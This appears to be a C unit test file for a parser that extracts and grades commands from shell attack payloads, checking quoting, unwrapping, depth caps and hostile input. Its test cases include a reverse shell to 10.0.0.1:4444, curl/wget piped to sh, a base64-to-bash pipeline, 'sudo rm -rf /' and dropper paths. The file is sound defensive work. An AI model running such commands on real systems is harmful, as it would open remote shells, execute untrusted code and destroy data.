/*
 * test_shell.c - command extraction, GRADING.md §3.
 *
 * Table-driven: each row is command text and the shellshock.command values
 * it must give (comma-separated, in order).  Then the shell reader's own
 * view (redirections, pipes, kinds), the caps (depth 8 vs 9, 64 commands,
 * words per command) and hostile inputs.
 */
#include <stdlib.h>

#include "ss.h"
#include "ss_shell.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_arena_t arena;


static void init(void)
{
    if (!rules) {
        rules = ss_rules_new();
        ss_arena_init(&arena);
    }
}

static void analyze(const char *text, size_t len, ss_payload_t *p)
{
    init();
    memset(p, 0, sizeof(*p));
    ss_analyze_commands(rules, text, len, p, &arena);
}

typedef struct {
    const char *text;
    const char *commands; /* comma-separated */
} cmd_case_t;

static void check_commands(const cmd_case_t *cases, size_t n)
{
    char buf[4096];
    for (size_t i = 0; i < n; i++) {
        ss_payload_t p;
        analyze(cases[i].text, strlen(cases[i].text), &p);
        const char *got = hs_join(p.commands, p.n_commands, buf, sizeof(buf));
        if (strcmp(got, cases[i].commands) != 0)
            fprintf(stderr, "\n  input: %s", cases[i].text);
        HS_ASSERT_STR(got, cases[i].commands);
        ss_arena_reset(&arena);
    }
}

#define CHECK_COMMANDS(cases) check_commands(cases, sizeof(cases) / sizeof(cases[0]))

/* ---- words and separators ---- */

static void test_split(void)
{
    static const cmd_case_t cases[] = {
        {"id", "id"},
        {"id;uname -a", "id,uname"},
        {"id && uname || whoami", "id,uname,whoami"},
        {"id | grep x & ps", "id,grep,ps"},
        {"id\nuname\r\nwhoami", "id,uname,whoami"},
        {"(id; uname)", "id,uname"},
        {"((((id))))", ""}, /* (( )) is arithmetic, not a command */
        {"( ( id ) )", "id"},
        {"id |& cat", "id,cat"},
        {";;; ;", ""},
        {"", ""},
        {"   \t  ", ""},
        {"id # wget http://x", "id"},
        {"# just a comment\nid", "id"},
        {"echo a#b", "echo"},
        {"id&uname", "id,uname"},
    };
    CHECK_COMMANDS(cases);
}

static void test_quotes(void)
{
    static const cmd_case_t cases[] = {
        {"'wget' x", "wget"},
        {"\"wget\" x", "wget"},
        {"w\\get x", "wget"},
        {"w'g'e\"t\" x", "wget"},
        {"echo 'a; wget x'", "echo"},
        {"echo \"a; wget x\"", "echo"},
        {"echo a\\;wget x", "echo"},
        {"echo \"a \\\" ; wget\"", "echo"},
        {"$'\\x77get' x", "wget"},
        {"$'\\167get' x", "wget"},
        {"echo 'unterminated; wget x", "echo"},
        {"echo \"unterminated; wget x", "echo"},
        {"ec\\\nho hi", "echo"},
        {"$\"id\"", "id"},
    };
    CHECK_COMMANDS(cases);
}

static void test_substitutions(void)
{
    static const cmd_case_t cases[] = {
        {"echo $(id)", "id,echo"},
        {"echo `uname -a`", "uname,echo"},
        {"echo \"$(id; whoami)\"", "id,whoami,echo"},
        {"wget http://x/$(uname -m)", "uname,wget"},
        {"echo $(echo $(id))", "id,echo,echo"},
        {"echo `echo \\`id\\``", "id,echo,echo"},
        {"echo $((1+2))", "echo"},
        {"echo ${x:-$(id)}", "echo"}, /* ${..} kept as written */
        {"cat <(curl http://x)", "curl,cat"},
        {"echo $(case x in a) id;; esac)", "id,echo"},
        {"echo $( (id) )", "id,echo"},
    };
    CHECK_COMMANDS(cases);
}

/* ---- unwrapping ---- */

static void test_unwrap(void)
{
    static const cmd_case_t cases[] = {
        {"bash -c 'wget x; chmod +x y'", "wget,chmod"},
        {"sh -c \"id\"", "id"},
        {"/bin/sh -c id", "id"},
        {"busybox sh -c 'id; uname'", "id,uname"},
        {"/bin/busybox sh -c 'id'", "id"},
        {"ash -c id", "id"},
        {"bash -lc 'id'", "id"},
        {"bash -x -c 'id' name arg", "id"},
        {"bash -o pipefail -c 'id'", "id"},
        {"sh -c -- 'id'", "id"},
        {"eval \"id; uname\"", "id,uname"},
        {"eval id ';' uname", "id,uname"},
        {"eval", ""},
        {"bash -c \"bash -c 'sh -c id'\"", "id"},
        {"eval \"$(curl -fsSL http://x/s)\"", "curl,$(curl -fsSL http://x/s)"},
        {"bash -c \"$(curl http://x)\"", "curl,$(curl http://x)"},
        {"bash -c 'echo $(id)'", "id,echo"},
        {"sh -c", "sh"},
        {"bash", "bash"},
        {"bash script.sh", "bash"},
    };
    CHECK_COMMANDS(cases);
}

/* Wraps inner in n levels of bash -c '...' (quotes escaped the shell's way). */
static char *nest_bash(const char *inner, int n)
{
    size_t cap = strlen(inner) + 1;
    char *s = malloc(cap);
    memcpy(s, inner, cap);
    for (int i = 0; i < n; i++) {
        size_t q = 0;
        for (const char *c = s; *c; c++)
            q += *c == '\'';
        size_t len = strlen(s) + 3 * q + 11;
        char *t = malloc(len + 1), *o = t;
        o += sprintf(o, "bash -c '");
        for (const char *c = s; *c; c++) {
            if (*c == '\'')
                o += sprintf(o, "'\\''");
            else
                *o++ = *c;
        }
        *o++ = '\'';
        *o = '\0';
        free(s);
        s = t;
    }
    return s;
}

static void test_depth_limit(void)
{
    char buf[4096];
    ss_payload_t p;
    /* 8 nested bash -c: all unwrapped. */
    char *s = nest_bash("id", SS_MAX_UNWRAP_DEPTH);
    analyze(s, strlen(s), &p);
    HS_ASSERT_STR(hs_join(p.commands, p.n_commands, buf, sizeof(buf)), "id");
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_GREEN);
    CU_ASSERT_FALSE(p.problems & SS_PROB_TOO_DEEP);
    free(s);
    ss_arena_reset(&arena);

    /* 9: the ninth level is one unknown command. */
    s = nest_bash("id", SS_MAX_UNWRAP_DEPTH + 1);
    analyze(s, strlen(s), &p);
    CU_ASSERT_EQUAL(p.n_commands, 1);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_YELLOW);
    CU_ASSERT(p.problems & SS_PROB_TOO_DEEP);
    free(s);
    ss_arena_reset(&arena);

    /* $( ) counts as a level too: 8 nested is fine, 9 is too deep. */
    const char *eight = "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(id))))))))";
    analyze(eight, strlen(eight), &p);
    CU_ASSERT_EQUAL(p.n_commands, 9);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_GREEN);
    CU_ASSERT_FALSE(p.problems & SS_PROB_TOO_DEEP);
    ss_arena_reset(&arena);
    const char *nine =
        "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(wget x)))))))))";
    analyze(nine, strlen(nine), &p);
    CU_ASSERT_EQUAL(p.n_commands, 10); /* 9 echo at levels 0..8, 1 too deep at 9 */
    CU_ASSERT(p.problems & SS_PROB_TOO_DEEP);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_YELLOW); /* the wget inside is not read */
    ss_arena_reset(&arena);

    /* Mixed: bash -c inside $( ) inside eval. */
    const char *mixed = "eval 'echo $(bash -c \"`echo id`\")'";
    analyze(mixed, strlen(mixed), &p);
    /* bash -c gets the output of `echo id`: unknown, reported as written. */
    HS_ASSERT_STR(hs_join(p.commands, p.n_commands, buf, sizeof(buf)), "echo,`echo id`,echo");
    ss_arena_reset(&arena);
}

/* ---- prefixes ---- */

static void test_prefixes(void)
{
    static const cmd_case_t cases[] = {
        {"nohup ./x86 &", "./x86"},
        {"nohup", "nohup"},
        {"exec /tmp/bot", "/tmp/bot"},
        {"exec -a name id", "id"},
        {"sudo rm -rf /", "rm"},
        {"sudo -u root -E id", "id"},
        {"sudo -i", "sudo"},
        {"sudo FOO=1 id", "id"},
        {"timeout 10 wget x", "wget"},
        {"timeout -s KILL 5 id", "id"},
        {"timeout --kill-after=2 5 id", "id"},
        {"timeout 5", "timeout"},
        {"nice -n 19 id", "id"},
        {"nice -5 id", "id"},
        {"nice id", "id"},
        {"env A=1 B=2 wget x", "wget"},
        {"env -i PATH=/bin id", "id"},
        {"env -u X id", "id"},
        {"env", "env"},
        {"env A=1", "env"},
        {"A=1 B=\"x y\" wget x", "wget"},
        {"A=1", ""},
        {"busybox wget x", "wget"},
        {"/bin/busybox ECCHI", "ECCHI"},
        {"busybox", "busybox"},
        {"busybox --list", "busybox"},
        {"sudo nohup busybox timeout 5 nice env X=1 id", "id"},
        {"/usr/bin/nohup /usr/bin/id", "id"},
    };
    CHECK_COMMANDS(cases);
}

/* ---- naming ---- */

static void test_naming(void)
{
    static const cmd_case_t cases[] = {
        {"/sbin/iptables -F", "iptables"},
        {"/usr/local/bin/wget x", "wget"},
        {"/tmp/x86", "/tmp/x86"},
        {"/var/tmp/.x/bot arg", "/var/tmp/.x/bot"},
        {"/dev/shm/kworker", "/dev/shm/kworker"},
        {"./x86 telnet.x86", "./x86"},
        {"x/y", "x/y"},
        {"../bin/x", "../bin/x"},
        {"\"./dvrHelper\"", "./dvrHelper"},
        {"$line", "$line"},
        {"${x}", "${x}"},
        {"\"$cmd\" arg", "$cmd"},
        {"$(echo wget) x", "echo,$(echo wget)"},
        {"`echo id`", "echo,`echo id`"},
        {"/tmp", "tmp"},
        {"/", "/"},
        {"Wget x", "Wget"},
        {"$", "$"},
    };
    CHECK_COMMANDS(cases);
}

/* ---- what is not a command ---- */

static void test_ignored(void)
{
    static const cmd_case_t cases[] = {
        {"if [ -f /tmp/x ]; then rm /tmp/x; else id; fi", "[,rm,id"},
        {"for i in a b c; do wget $i; done", "wget"},
        {"for i in $(seq 1 3); do id; done", "seq,id"},
        {"for ((i=0;i<3;i++)); do id; done", "id"},
        {"for x; do id; done", "id"},
        {"while true; do sleep 1; done", "true,sleep"},
        {"until false; do id; done", "false,id"},
        {"case $1 in start) wget x;; stop|halt) kill 1;; *) id;; esac", "wget,kill,id"},
        {"case $1 in\n (a) id;;\n b) uname;;\nesac", "id,uname"},
        {"function f { wget x; }", "wget"},
        {"function f() { id; }; f", "id,f"},
        {"f() { id; }", "id"},
        {"{ id; uname; }", "id,uname"},
        {"! id", "id"},
        {"[[ -f x && -r y ]] && id", "id"},
        {"if [[ $a > b ]]; then id; fi", "id"},
        {">dvrHelper", ""},
        {"exec 5<>/dev/tcp/h/443", ""},
        {"2>/dev/null", ""},
        {"x=(a b c); id", "id"},
        {"cat <<EOF\nwget x\nrm y\nEOF\nid", "cat,id"},
        {"cat <<-'E'\n\twget x\n\tE\nid", "cat,id"},
        {"in", ""},
        {"done; fi; esac; }", ""},
    };
    CHECK_COMMANDS(cases);
}

/* ---- the reader's view: redirections, pipes, kinds ---- */

typedef struct {
    ss_cmd_t cmds[16];
    ss_redir_t redirs[16][8];
    char names[16][64];
    char targets[16][8][64];
    size_t n;
} seen_t;

static void record(void *ctx, const ss_cmd_t *cmd)
{
    seen_t *s = ctx;
    if (s->n >= 16)
        return;
    ss_cmd_t *c = &s->cmds[s->n];
    *c = *cmd;
    snprintf(s->names[s->n], 64, "%.*s", (int)cmd->name_len, cmd->name ? cmd->name : "");
    c->name = s->names[s->n];
    for (size_t i = 0; i < cmd->n_redirs && i < 8; i++) {
        s->redirs[s->n][i] = cmd->redirs[i];
        snprintf(s->targets[s->n][i], 64, "%s", cmd->redirs[i].target.s);
        s->redirs[s->n][i].target.s = s->targets[s->n][i];
    }
    c->redirs = s->redirs[s->n];
    c->words = NULL;
    s->n++;
}

static unsigned walk(const char *text, seen_t *s)
{
    memset(s, 0, sizeof(*s));
    ss_shell_visitor_t v = {s, record, NULL};
    return ss_shell_walk(text, strlen(text), &v);
}

static void test_redirections(void)
{
    static const struct {
        const char *text;
        ss_redir_op_t op;
        int fd;
        const char *target;
    } cases[] = {
        {"echo x >f", SS_REDIR_OUT, -1, "f"},
        {"echo x >> f", SS_REDIR_APPEND, -1, "f"},
        {"echo x >|f", SS_REDIR_CLOBBER, -1, "f"},
        {"cat <f", SS_REDIR_IN, -1, "f"},
        {"exec 5<>/dev/tcp/h/1", SS_REDIR_RW, 5, "/dev/tcp/h/1"},
        {"cat <<EOF", SS_REDIR_HEREDOC, -1, "EOF"},
        {"cat <<<word", SS_REDIR_HERESTRING, -1, "word"},
        {"id &>/dev/null", SS_REDIR_OUT_ERR, -1, "/dev/null"},
        {"id &>>log", SS_REDIR_APPEND_ERR, -1, "log"},
        {"id >& /dev/tcp/h/1", SS_REDIR_OUT_ERR, -1, "/dev/tcp/h/1"},
        {"id 2>&1", SS_REDIR_DUP_OUT, 2, "1"},
        {"sh 0>&1", SS_REDIR_DUP_OUT, 0, "1"},
        {"sh 0<&5", SS_REDIR_DUP_IN, 0, "5"},
        {"sh <&5", SS_REDIR_DUP_IN, -1, "5"},
        {"id 2>/dev/null", SS_REDIR_OUT, 2, "/dev/null"},
        {"id >\"/tmp/a b\"", SS_REDIR_OUT, -1, "/tmp/a b"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        seen_t s;
        walk(cases[i].text, &s);
        CU_ASSERT_EQUAL_FATAL(s.n, 1);
        CU_ASSERT_EQUAL_FATAL(s.cmds[0].n_redirs, 1);
        if (s.redirs[0][0].op != cases[i].op || s.redirs[0][0].fd != cases[i].fd)
            fprintf(stderr, "\n  input: %s: op %d fd %d", cases[i].text, s.redirs[0][0].op,
                    s.redirs[0][0].fd);
        CU_ASSERT_EQUAL(s.redirs[0][0].op, cases[i].op);
        CU_ASSERT_EQUAL(s.redirs[0][0].fd, cases[i].fd);
        HS_ASSERT_STR(s.targets[0][0], cases[i].target);
    }
    /* Several redirections, and a word "2" that is an argument. */
    seen_t s;
    walk("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2 x", &s);
    CU_ASSERT_EQUAL(s.n, 1);
    CU_ASSERT_EQUAL(s.cmds[0].n_redirs, 2);
    CU_ASSERT_EQUAL(s.cmds[0].n_words, 4);
}

static void test_pipes_and_kinds(void)
{
    seen_t s;
    walk("curl -s http://x | sh; id", &s);
    CU_ASSERT_EQUAL_FATAL(s.n, 3);
    CU_ASSERT_FALSE(s.cmds[0].piped_in);
    CU_ASSERT_TRUE(s.cmds[0].pipes_out);
    CU_ASSERT_TRUE(s.cmds[1].piped_in);
    CU_ASSERT_FALSE(s.cmds[1].pipes_out);
    CU_ASSERT_FALSE(s.cmds[2].piped_in);

    walk("wget -O- x | (sh)", &s);
    CU_ASSERT_EQUAL_FATAL(s.n, 2);
    CU_ASSERT_TRUE(s.cmds[1].piped_in);
    HS_ASSERT_STR(s.cmds[1].name, "sh");

    walk("echo x | base64 -d | bash", &s);
    CU_ASSERT_EQUAL_FATAL(s.n, 3);
    CU_ASSERT_TRUE(s.cmds[1].piped_in);
    CU_ASSERT_TRUE(s.cmds[2].piped_in);

    walk("bash -c 'id'", &s);
    CU_ASSERT_EQUAL_FATAL(s.n, 2);
    CU_ASSERT_EQUAL(s.cmds[0].kind, SS_CMD_WRAPPER);
    CU_ASSERT_EQUAL(s.cmds[1].kind, SS_CMD_NAMED);
    CU_ASSERT_EQUAL(s.cmds[1].level, 1);

    walk("./x; $y; >f; for a in b; do :; done", &s);
    CU_ASSERT_EQUAL_FATAL(s.n, 6);
    CU_ASSERT_EQUAL(s.cmds[0].kind, SS_CMD_DROPPED);
    CU_ASSERT_EQUAL(s.cmds[1].kind, SS_CMD_EXPANSION);
    CU_ASSERT_EQUAL(s.cmds[2].kind, SS_CMD_REDIR_ONLY);
    CU_ASSERT_EQUAL(s.cmds[3].kind, SS_CMD_NONE); /* for a in b */
    CU_ASSERT_EQUAL(s.cmds[4].kind, SS_CMD_NAMED); /* : */
    CU_ASSERT_EQUAL(s.cmds[5].kind, SS_CMD_NONE); /* done */
}

/* True when the built-in command table says name is of kind k. */
static bool is_kind(const char *name, ss_kind_t k)
{
    const ss_command_t *c = ss_rules_find(NULL, name, strlen(name));
    return c && c->kind == k;
}

static void test_shell_opts(void)
{
    ss_word_t w[4] = {{"-li", 3, 0, 0, 0, 0}, {"-o", 2, 0, 0, 0, 0}, {"x", 1, 0, 0, 0, 0},
                      {"s.sh", 4, 0, 0, 0, 0}};
    ss_shell_opts_t o;
    const ss_command_t *sh = ss_rules_find(NULL, "sh", 2);
    CU_ASSERT_PTR_NOT_NULL_FATAL(sh);
    ss_shell_parse_opts(w, 4, sh->value_options, &o); /* -o takes a value */
    CU_ASSERT_TRUE(o.interactive);
    CU_ASSERT_FALSE(o.has_c);
    CU_ASSERT_EQUAL(o.first_arg, 3);
    CU_ASSERT_TRUE(is_kind("python3", SS_KIND_INTERPRETER));
    CU_ASSERT_TRUE(is_kind("python2.7", SS_KIND_INTERPRETER));
    CU_ASSERT_TRUE(is_kind("php7", SS_KIND_INTERPRETER));
    CU_ASSERT_TRUE(is_kind("node", SS_KIND_INTERPRETER));
    CU_ASSERT_FALSE(is_kind("pythonx", SS_KIND_INTERPRETER));
    CU_ASSERT_FALSE(is_kind("pyth", SS_KIND_INTERPRETER));
}

/* ---- caps ---- */

static void test_command_cap(void)
{
    /* 70 commands: 64 kept, all graded (the red one is the 70th). */
    char text[1024] = "";
    for (int i = 0; i < 69; i++)
        strcat(text, "id;");
    strcat(text, "wget x");
    ss_payload_t p;
    analyze(text, strlen(text), &p);
    CU_ASSERT_EQUAL(p.n_commands, SS_MAX_COMMANDS);
    CU_ASSERT(p.problems & SS_PROB_COMMANDS_TRUNCATED);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_RED);
    ss_arena_reset(&arena);

    /* Exactly 64: no flag. */
    text[0] = '\0';
    for (int i = 0; i < 64; i++)
        strcat(text, "id\n");
    analyze(text, strlen(text), &p);
    CU_ASSERT_EQUAL(p.n_commands, 64);
    CU_ASSERT_FALSE(p.problems & SS_PROB_COMMANDS_TRUNCATED);
    ss_arena_reset(&arena);

    /* IOCs of commands past the cap are still mined. */
    text[0] = '\0';
    for (int i = 0; i < 70; i++)
        strcat(text, "id;");
    strcat(text, "ping 9.9.9.9");
    analyze(text, strlen(text), &p);
    CU_ASSERT_EQUAL(p.n_hosts, 1);
    ss_arena_reset(&arena);
}

static void test_word_cap(void)
{
    size_t n = (SS_MAX_WORDS_PER_COMMAND + 10) * 2;
    char *text = malloc(n + 64);
    strcpy(text, "echo");
    for (size_t i = 4; i < n; i += 2)
        memcpy(text + i, " a", 2);
    strcpy(text + n, "; id");
    ss_payload_t p;
    analyze(text, strlen(text), &p);
    CU_ASSERT(p.problems & SS_PROB_WORDS_TRUNCATED);
    CU_ASSERT_EQUAL(p.n_commands, 2);
    free(text);
    ss_arena_reset(&arena);
}

/* ---- hostile input ---- */

static void analyze_repeat(const char *unit, size_t times, ss_payload_t *p, char **keep)
{
    size_t k = strlen(unit);
    char *s = malloc(k * times + 1);
    for (size_t i = 0; i < times; i++)
        memcpy(s + i * k, unit, k);
    s[k * times] = '\0';
    analyze(s, k * times, p);
    *keep = s;
}

static void test_hostile(void)
{
    static const struct {
        const char *unit;
        size_t times;
        unsigned must;
    } cases[] = {
        {"$(", 100000, SS_PROB_TOO_DEEP | SS_PROB_UNTERMINATED_QUOTE},
        {"\"$(", 50000, SS_PROB_TOO_DEEP | SS_PROB_UNTERMINATED_QUOTE},
        {"`", 100001, SS_PROB_UNTERMINATED_QUOTE},
        {"${", 100000, SS_PROB_UNTERMINATED_QUOTE},
        {"(", 100000, 0},
        {")", 100000, 0},
        {"$((", 50000, SS_PROB_UNTERMINATED_QUOTE},
        {"a=(", 50000, SS_PROB_UNTERMINATED_QUOTE},
        {"eval ", 50000, 0},
        {"bash -c ", 50000, 0},
        {"'", 99999, SS_PROB_UNTERMINATED_QUOTE},
        {"\"", 99999, SS_PROB_UNTERMINATED_QUOTE},
        {"\\", 99999, 0},
        {"<<a ", 50000, 0},
        {"case x in ", 20000, 0},
        {"|", 100000, 0},
        {"&>", 50000, 0},
        {"0<&", 50000, 0},
        {"$'\\", 50000, 0},
        {"$'", 50001, SS_PROB_UNTERMINATED_QUOTE},
        {"x", 1000000, 0}, /* one very long word */
        {"http://", 100000, SS_PROB_IOCS_TRUNCATED},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        ss_payload_t p;
        char *s;
        analyze_repeat(cases[i].unit, cases[i].times, &p, &s);
        CU_ASSERT(p.grade >= SS_GRADE_GREEN && p.grade <= SS_GRADE_RED);
        CU_ASSERT(p.n_commands <= SS_MAX_COMMANDS);
        if ((p.problems & cases[i].must) != cases[i].must)
            fprintf(stderr, "\n  unit \"%s\": problems %#x", cases[i].unit, p.problems);
        CU_ASSERT_EQUAL(p.problems & cases[i].must, cases[i].must);
        for (size_t c = 0; c < p.n_commands; c++)
            CU_ASSERT(strlen(p.commands[c]) <= SS_MAX_COMMAND_NAME_LEN);
        free(s);
        ss_arena_reset(&arena);
    }
    /* NULs: blanks between words, kept inside quotes; never read past len. */
    static const char nul[] = "id\0-a;\0uname\0'a\0b'";
    ss_payload_t p;
    analyze(nul, sizeof(nul) - 1, &p);
    CU_ASSERT_EQUAL(p.n_commands, 2);
    ss_arena_reset(&arena);
    /* Text ending in the middle of every construct: exact-size copies so
     * that ASan sees any read past the end. */
    static const char *const cut[] = {"echo $", "echo $(", "echo ${", "echo `", "a\\", "'",
                                      "\"", "$'", "$'\\x", "$'\\1", "<", "2>", "&", "|", ";;",
                                      "x=(", "cat <<", "f(", "((", "[[", "case", "http:/",
                                      "/dev/tcp/", "wget -O", "tftp -r", "nc -e", "socat tcp:"};
    for (size_t i = 0; i < sizeof(cut) / sizeof(cut[0]); i++) {
        size_t k = strlen(cut[i]);
        char *exact = malloc(k);
        memcpy(exact, cut[i], k);
        analyze(exact, k, &p);
        CU_ASSERT(p.grade >= SS_GRADE_GREEN);
        free(exact);
        ss_arena_reset(&arena);
    }
    /* All 256 byte values, two by two. */
    char pair[2];
    for (int a = 0; a < 256; a++) {
        for (int b = 0; b < 256; b += 7) {
            pair[0] = (char)a;
            pair[1] = (char)b;
            analyze(pair, 2, &p);
            ss_arena_reset(&arena);
        }
    }
    analyze(NULL, 0, &p);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(p.n_commands, 0);
}

static CU_TestInfo tests[] = {
    {"split on ; && || | & newline ( )", test_split},
    {"quotes and escapes", test_quotes},
    {"$( ) and backquotes are entered", test_substitutions},
    {"bash -c / sh -c / busybox sh -c / eval unwrap", test_unwrap},
    {"unwrap depth 8 vs 9", test_depth_limit},
    {"prefixes dropped", test_prefixes},
    {"naming: base name, dropped file, expansion", test_naming},
    {"keywords, for lists, case, functions, redirection-only", test_ignored},
    {"redirection operators, fds and targets", test_redirections},
    {"pipes and command kinds", test_pipes_and_kinds},
    {"sh options and interpreter names", test_shell_opts},
    {"64-command cap", test_command_cap},
    {"words-per-command cap", test_word_cap},
    {"hostile input", test_hostile},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("shell", tests)
